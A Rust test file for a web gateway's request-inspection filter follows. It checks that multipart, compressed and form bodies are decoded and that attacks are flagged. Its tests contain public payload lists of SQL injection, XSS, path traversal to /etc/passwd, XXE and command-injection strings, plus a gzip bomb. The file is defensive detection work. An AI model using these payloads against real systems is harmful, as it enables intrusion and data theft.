        body.extend_from_slice(headers.as_bytes());
        body.extend_from_slice(b"\r\n\r\n");
        body.extend_from_slice(content);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(b"--B--\r\n");
    body
}

#[test]
fn multipart_bodies_part_by_part() {
    let r = route();
    let p = parts("/", &[("content-type", "multipart/form-data; boundary=B")]);
    let check = |body: &[u8]| r.body(&p, body).map(|f| f.rule);
    let field = |name: &str| format!("Content-Disposition: form-data; name=\"{name}\"");
    let file = |name: &str, ty: &str| {
        format!(
            "Content-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\nContent-Type: {ty}"
        )
    };

    // What a browser sends for a form with text fields and a binary file passes, NULs and all.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR<script>../../\0";
    let benign = form_data(&[
        (&field("name"), b"Miles O'Brien"),
        (&field("note"), b"select a plan; cat food & dog food"),
        (&file("photo.png", "image/png"), png),
        (&file("notes.txt", "text/plain"), b"just notes"),
        (&field("empty"), b""),
    ]);
    assert_eq!(check(&benign), None);
    assert!(r.wants_body(&p));

    let attacks: &[(Vec<u8>, &str)] = &[
        // A field value, with or without a type of its own, in any encoding.
        (form_data(&[(&field("q"), b"1' OR '1'='1")]), "sqli-001"),
        (
            form_data(&[(&format!("{}\r\nContent-Type: application/octet-stream", field("q")), b"<script>")]),
            "xss-001",
        ),
        (
            form_data(&[(&format!("{}\r\nContent-Transfer-Encoding: base64", field("q")), b"PHNjcmlwdD4=")]),
            "xss-001",
        ),
        (
            form_data(&[(
                &format!("{}\r\nContent-Transfer-Encoding: quoted-printable", field("q")),
                b"=3Cscr=\r\nipt=3E",
            )]),
            "xss-001",
        ),
        // A JSON or a form part, by its type.
        (
            form_data(&[(&file("a.json", "application/json"), br#"{"a":"\u003cscript"}"#)]),
            "xss-001",
        ),
        (
            form_data(&[(&file("a", "application/x-www-form-urlencoded"), b"x=1%3Bwhoami")]),
            "cmdi-001",
        ),
        // File names, field names, and RFC 2231 names.
        (form_data(&[(&file("../../etc/passwd", "image/png"), b"x")]), "trav-001"),
        (
            form_data(&[("Content-Disposition: form-data; name=\"f\"; filename*=utf-8''..%2F..%2Fetc%2Fpasswd", b"x")]),
            "trav-001",
        ),
        (form_data(&[(&field("<svg onload=alert(1)>"), b"x")]), "xss-002"),
        // A binary type with a file name in doubt (a parameter that does not parse first) is
        // a field: its content is inspected.
        (
            form_data(&[(
                "Content-Disposition: form-data; name=\"q\"; junk; filename=\"a.bin\"\r\n\
                 Content-Type: application/octet-stream",
                b"<script>",
            )]),
            "xss-001",
        ),
        // Other part headers.
        (form_data(&[(&format!("{}\r\nX-Note: <script>", field("a")), b"x")]), "xss-001"),
        // The preamble and the epilogue.
        ([b"<script>\r\n".as_slice(), &form_data(&[(&field("a"), b"x")])].concat(), "xss-001"),
        ([form_data(&[(&field("a"), b"x")]).as_slice(), b"<script>"].concat(), "xss-001"),
        // A body that does not split: bare LF line ends, matched whole.
        (b"--B\nContent-Disposition: form-data; name=a\n\n<script>\n--B--".to_vec(), "xss-001"),
        // An attack after a text part that claims to close the body early.
        (
            form_data(&[(&field("a"), b"x\r\n--B--\r\n<script>")]),
            "xss-001",
        ),
    ];
    for (body, rule) in attacks {
        assert_eq!(
            check(body),
            Some(*rule),
            "{}",
            String::from_utf8_lossy(body)
        );
    }
    // A boundary given twice is ambiguous: the body is matched whole, as text.
    let twice = parts(
        "/",
        &[(
            "content-type",
            "multipart/form-data; boundary=B; boundary=C",
        )],
    );
    assert_eq!(
        r.body(&twice, &form_data(&[(&field("a"), b"<script>")]))
            .map(|f| f.rule),
        Some("xss-001")
    );
}

#[test]
fn encoded_bodies_are_inflated_or_refused() {
    use std::io::Write as _;
    let r = route();
    let with = |coding: &str| {
        parts(
            "/",
            &[
                ("content-type", "application/json"),
                ("content-encoding", coding),
            ],
        )
    };
    let gzip = {
        let mut out = Vec::new();
        let mut e = flate2::write::GzEncoder::new(&mut out, flate2::Compression::default());
        e.write_all(br#"{"q":"1' OR '1'='1"}"#).unwrap();
        e.finish().unwrap();
        out
    };
    let zlib = {
        let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(br#"{"q":"<script>"}"#).unwrap();
        e.finish().unwrap()
    };
    let raw = {
        let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(br#"{"q":"../../etc/passwd"}"#).unwrap();
        e.finish().unwrap()
    };
    let rule = |p: &Parts, b: &[u8]| r.body(p, b).map(|f| f.rule);
    assert_eq!(rule(&with("gzip"), &gzip), Some("sqli-001"));
    assert_eq!(rule(&with("X-GZIP"), &gzip), Some("sqli-001"));
    assert_eq!(rule(&with("deflate"), &zlib), Some("xss-001"));
    assert_eq!(rule(&with("deflate"), &raw), Some("trav-001"));
    assert_eq!(
        rule(&with("identity"), br#"{"q":"<script>"}"#),
        Some("xss-001")
    );
    // Clean once inflated.
    let clean = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(br#"{"name":"Miles O'Brien"}"#).unwrap();
        e.finish().unwrap()
    };
    assert_eq!(rule(&with("gzip"), &clean), None);
    // Codings the inspector cannot read, or bytes that do not inflate.
    for coding in ["br", "zstd", "compress", "gzip, gzip", "x-custom"] {
        assert_eq!(rule(&with(coding), &clean), Some("limit-002"), "{coding}");
    }
    assert_eq!(rule(&with("gzip"), b"not gzip at all"), Some("limit-002"));
    let mut two = with("gzip");
    two.headers
        .append("content-encoding", "gzip".parse().unwrap());
    assert_eq!(rule(&two, &clean), Some("limit-002"));
    // A bomb is inflated no further than the limit, and is then a finding.
    let small = route_with(InspectConfig {
        mode: InspectMode::Block,
        max_body_bytes: 1024,
        ..InspectConfig::default()
    });
    let bomb = {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        e.write_all(&vec![b'a'; 8 << 20]).unwrap();
        e.finish().unwrap()
    };
    assert!(bomb.len() < 64 << 10);
    assert_eq!(
        small.body(&with("gzip"), &bomb).map(|f| f.rule),
        Some("limit-001")
    );
    // limit-002 off: an unreadable body passes uninspected.
    let lax = route_with(InspectConfig {
        mode: InspectMode::Block,
        disable: vec!["limit-002".into()],
        ..InspectConfig::default()
    });
    assert!(lax.body(&with("br"), b"<script>").is_none());
}

#[test]
fn disabled_rules_and_classes_are_skipped() {
    let r = route_with(InspectConfig {
        mode: InspectMode::Log,
        disable: vec!["xss-001".into(), "sqli".into()],
        ..InspectConfig::default()
    });
    assert_eq!(hit(&r, Form, "<script>"), None);
    assert_eq!(
        hit(&r, Form, "<script src=x onerror=alert(1)>"),
        Some("xss-002")
    );
    assert_eq!(hit(&r, Form, "' or 1=1--"), None);
    assert_eq!(hit(&r, Form, "../x"), Some("trav-001"));
    let r = route_with(InspectConfig {
        disable: vec!["null-byte".into()],
        ..InspectConfig::default()
    });
    assert_eq!(hit(&r, Form, "a%00b"), None);
}

#[test]
fn config_validation() {
    let parse = |s: &str| toml::from_str::<InspectConfig>(s);
    let ok = parse(
        "mode = \"log\"\ndisable = [\"sqli-008\", \"cmdi\"]\nmax_body_bytes = 4096\n\
         body_over_limit = \"inspect_prefix\"\nskip_headers = [\"x-blob\"]",
    )
    .unwrap();
    assert_eq!(ok.mode, InspectMode::Log);
    assert_eq!(ok.body_over_limit, OverLimit::InspectPrefix);
    assert!(ok.validate().is_ok());
    let d = parse("").unwrap();
    assert_eq!(d, InspectConfig::default());
    assert_eq!(d.max_body_bytes, 1 << 20);
    assert_eq!(d.body_over_limit, OverLimit::Finding);
    assert!(
        parse("mode = \"block\"\nmaxbody = 1").is_err(),
        "unknown keys are refused"
    );
    assert!(parse("body_over_limit = \"drop\"").is_err());
    let err = |s: &str| parse(s).unwrap().validate().unwrap_err();
    assert_eq!(
        err("disable = [\"sqli-001\", \"sqli-999\"]").0,
        ["disable", "1"]
    );
    assert!(err("disable = [\"nosuch\"]").1.contains("nosuch"));
    assert_eq!(err("max_body_bytes = 0").0, ["max_body_bytes"]);
    assert_eq!(
        err("skip_headers = [\"bad header\"]").0,
        ["skip_headers", "0"]
    );
}

/// The fast path: clean parts are not copied, and a typical clean GET head costs a few
/// microseconds (asserted loosely: debug builds and shared CI machines are slow).
#[test]
fn clean_heads_are_cheap() {
    let r = route();
    let p = parts(
        "/api/v1/users/42/orders?page=2&per_page=50&sort=created_at&q=blue+shoes",
        &[
            (
                "user-agent",
                "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
            ),
            ("accept", "application/json"),
            ("accept-language", "en-US,en;q=0.9"),
            ("referer", "https://app.example.com/orders?tab=open"),
            (
                "cookie",
                "theme=dark; _ga=GA1.2.1234567890.1700000000; session=abc",
            ),
            ("x-forwarded-for", "203.0.113.9"),
            ("authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.abc"),
        ],
    );
    assert!(r.head(&p).is_none());
    let n = 2000;
    let start = Instant::now();
    for _ in 0..n {
        std::hint::black_box(r.head(std::hint::black_box(&p)));
    }
    let per = start.elapsed() / n;
    eprintln!("clean GET head: {per:?}");
    if !cfg!(debug_assertions) {
        assert!(per.as_micros() < 50, "{per:?} per clean head");
    }
}

/// Where a clean head's time goes: `cargo test --release -p gateway --lib inspect_profile -- --ignored --nocapture`.
#[test]
#[ignore]
fn inspect_profile() {
    let i = Inspector::new();
    let samples: &[&[u8]] = &[
        b"/api/v1/users/42/orders",
        b"page",
        b"2",
        b"mozilla/5.0 (x11; linux x86_64; rv:125.0) gecko/20100101 firefox/125.0",
        b"https://app.example.com/orders?tab=open",
        b"_ga",
        b"ga1.2.1234567890.1700000000",
    ];
    let n = 20000;
    for s in samples {
        let t = Instant::now();
        for _ in 0..n {
            std::hint::black_box(i.set.is_match(std::hint::black_box(s)));
        }
        let m = t.elapsed() / n;
        let t = Instant::now();
        for _ in 0..n {
            std::hint::black_box(normalize(std::hint::black_box(s), Kind::Header));
        }
        let z = t.elapsed() / n;
        eprintln!(
            "{:>60}: is_match {m:?}, normalize {z:?}",
            String::from_utf8_lossy(s)
        );
    }
    clean_heads_are_cheap();
}

/// Payloads from public lists, as query values: each must be found, in its class.
#[test]
fn payload_lists_are_caught() {
    let r = route();
    let rows: &[(&str, &[&str])] = &[
        (
            "sqli",
            &[
                "1' AND 1=1--",
                "' OR 1=1 LIMIT 1 -- -",
                "admin' or '1'='1'/*",
                "' or ''='",
                "1' waitfor delay '0:0:10'--",
                "' UNION SELECT NULL--",
                "' AND 1=CONVERT(int,@@version)--",
                "or 1=1",
                "1)) or ((1=1",
                "admin\")--",
                "x' AND email IS NULL; --",
                "' and password like 'a%",
                "' group by password having 1=1--",
                "1 ORDER BY 1--",
                "%bf%27 or 1=1--",
                "1%27%20%4f%52%20%31%3d%31",
                "1 AnD SlEeP(5)",
                "1 OR TRUE",
                "';shutdown --",
                "1 AND (SELECT * FROM users) = 1",
                "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
            ],
        ),
        (
            "xss",
            &[
                "<img src=x onerror=alert(document.domain)>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<input onfocus=alert(1) autofocus>",
                "<marquee onstart=alert(1)>",
                "<video><source onerror=\"alert(1)\">",
                "<body background=\"javascript:alert(1)\">",
                "<div style=\"background:url(javascript:alert(1))\">",
                "<IMG SRC=JaVaScRiPt:alert('XSS')>",
                "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
                "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
                "<a href=\"java&#13;script:alert(1)\">",
                "<svg onload=alert&lpar;1&rpar;>",
                "<img src=`x`onerror=alert(1)>",
                "<svg%0Conload=alert(1)>",
                "<svg/%00/onload=alert(1)>",
                "<form action=javascript:alert(1)><input type=submit>",
                "onerror=alert;throw 1",
                "'';!--\"<XSS>=&{()}",
                "\\\"-alert(1)}//",
                "{{constructor.constructor('alert(1)')()}}",
                "<style>@import'javascript:alert(1)';</style>",
                "<x onclick=alert(1)>click",
                "%3Csvg%20onload%3Dalert(1)%3E",
                "<\\/script>",
            ],
        ),
        (
            "traversal",
            &[
                "....//....//....//etc/passwd",
                "..%252f..%252f..%252fetc%252fpasswd",
                "..%c0%af..%c0%afetc%c0%afpasswd",
                "..%c0%2f..%c0%2fx",
                "..%c1%1c..%c1%1cx",
                "..%c1%9c..%c1%9cx",
                "%uff0e%uff0e%u2215x",
                "..%u2216..%u2216x",
                "/%5C../%5C../x",
                "..\\/..\\/x",
                ".%2e/x",
                "%2e./x",
                "..%00/x",
                "..%25c0%25afx",
                "/WEB-INF/web.xml",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///srv/x\">]>",
            ],
        ),
        (
            "cmdi",
            &[
                ";ls",
                "| id",
                "& whoami",
                "%0Aid",
                "|| ping -c 10 127.0.0.1",
                "& nslookup e.x &",
                ";echo $((1+1))",
                "a;sleep${IFS}5",
                "127.0.0.1%0a%0dwhoami",
                ";cat</app/conf",
                "{cat,/app/conf}",
                "/???/??t /???/p??s??",
                "ping -c 1 127.0.0.1; id",
            ],
        ),
    ];
    let mut misses = Vec::new();
    for (class, payloads) in rows {
        for p in *payloads {
            let found =
                r.form(format!("q={}", p.replace('&', "%26").replace('+', "%2B")).as_bytes());
            if found.map(|r| r.class) != Some(class) {
                misses.push(format!("{class}: {p:?} gave {:?}", found.map(|r| r.id)));
            }
        }
    }
    assert!(misses.is_empty(), "\n{}", misses.join("\n"));
}

#[test]
fn clean_texts_are_remembered_per_rule_set_and_findings_never() {
    let all = route();
    let no_sqli = route_with(InspectConfig {
        mode: InspectMode::Block,
        disable: vec!["sqli".into()],
        ..InspectConfig::default()
    });
    let sqli = "1' OR '1'='1";
    // Clean where SQL injection is off, remembered as such, and still a finding where it is
    // on, however often either is asked.
    for _ in 0..3 {
        assert_eq!(hit(&no_sqli, Header, sqli), None);
        assert!(hit(&all, Header, sqli).is_some_and(|id| id.starts_with("sqli")));
    }
    // Findings are worked out every time, next to clean texts that are remembered.
    for _ in 0..3 {
        assert_eq!(hit(&all, Path, "/docs/readme"), None);
        assert!(hit(&all, Path, "/docs/..%2f..%2fetc%2fpasswd")
            .is_some_and(|id| id.starts_with("trav")));
    }
    // The set starts over when full and keeps answering right.
    for i in 0..CLEAN_TEXTS + 10 {
        assert_eq!(hit(&all, Header, &format!("agent/{i}")), None);
    }
    assert!(CLEAN.with(|c| c.borrow().0.len()) <= CLEAN_TEXTS);
    assert!(hit(&all, Header, "<script>alert(1)</script>").is_some());
}

#[test]
fn short_plain_words_match_no_rule() {
    // The bound itself: cautious where it cannot tell, exact on what it sees.
    let shortest = |p: &str| {
        let hir = regex_syntax::ParserBuilder::new()
            .unicode(false)
            .utf8(false)
            .build()
            .parse(p)
            .unwrap();
        shortest_plain(&hir)
    };
    assert_eq!(shortest(r"\bunion\s*select\b"), 11);
    assert_eq!(shortest(r"^(?:ab|<)c{2,}$"), 4);
    assert_eq!(shortest(r"[^\n]*x"), 1);
    assert_eq!(shortest(r"a(?:b|c.)d"), 3);
    assert_eq!(shortest(r"<[\s/]*script\b"), usize::MAX);
    assert_eq!(shortest(r"\bsleep\s*\("), usize::MAX);
    assert_eq!(shortest(r"(?:;|&)\s*id\b"), usize::MAX);
    // The rule set's bound ("pg_shadow", sqli-006), and what it lets pass unscanned: a rule
    // that lowers it slows inspection and breaks this test.
    let set = Inspector::new();
    assert_eq!(set.plain_shortest, 9);
    let r = route();
    for word in ["pg_shadow", "unionselect", "sysobjects", "2852039166"] {
        assert!(hit(&r, Json, word).is_some(), "{word}");
    }
    assert!(plain(b"orderId_42") && plain(b"A"));
    for not in [
        "a b", "a-b", "a.b", "a%41", "a\\u0041", "a\0", "é", "a+b", "a'",
    ] {
        assert!(!plain(not.as_bytes()), "{not:?}");
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(500))]

    /// What the bound assumes of a word: every kind normalises it to its lower case alone, and
    /// neither view changes it; and short words, scanned, match nothing.
    #[test]
    fn a_plain_word_normalises_to_itself(word in "[A-Za-z0-9_]{1,40}") {
        let lower = word.to_ascii_lowercase();
        for kind in [Path, Form, Header, Json, Text] {
            let n = normalize(word.as_bytes(), kind);
            proptest::prop_assert_eq!(&n.text[..], lower.as_bytes());
            proptest::prop_assert!(!n.nul);
            proptest::prop_assert!(sql_view(&n.text).is_none_or(|v| v == n.text[..]));
            proptest::prop_assert!(shell_view(&n.text).is_none_or(|v| v == n.text[..]));
            if word.len() < 9 {
                let found = route().scan_now(word.as_bytes(), kind, rules::IN_ALL);
                proptest::prop_assert!(found.is_none());
            }
        }
    }
}

#[test]
fn body_kinds_by_media_type() {
    let rows: &[(&[u8], Option<BodyKind>)] = &[
        (b"application/json", Some(BodyKind::Json)),
        (b" Application/JSON ; charset=utf-8", Some(BodyKind::Json)),
        (b"application/problem+json", Some(BodyKind::Json)),
        // Parameters that are not UTF-8 do not hide the type.
        (b"application/json; charset=\xff", Some(BodyKind::Json)),
        (b"application/x-www-form-urlencoded", Some(BodyKind::Form)),
        (b"text/xml", Some(BodyKind::Xml)),
        (b"application/soap+xml", Some(BodyKind::Xml)),
        (b"text/plain", Some(BodyKind::Text)),
        (b"application/graphql", Some(BodyKind::Text)),
        (
            b"multipart/form-data; boundary=x",
            Some(BodyKind::Multipart),
        ),
        (b"+json", None),
        (b"text/", None),
        (b"image/png", None),
        (b"application/octet-stream", None),
        (b"", None),
    ];
    for (value, kind) in rows {
        assert_eq!(
            kind_of(value),
            *kind,
            "{:?}",
            String::from_utf8_lossy(value)
        );
    }
}
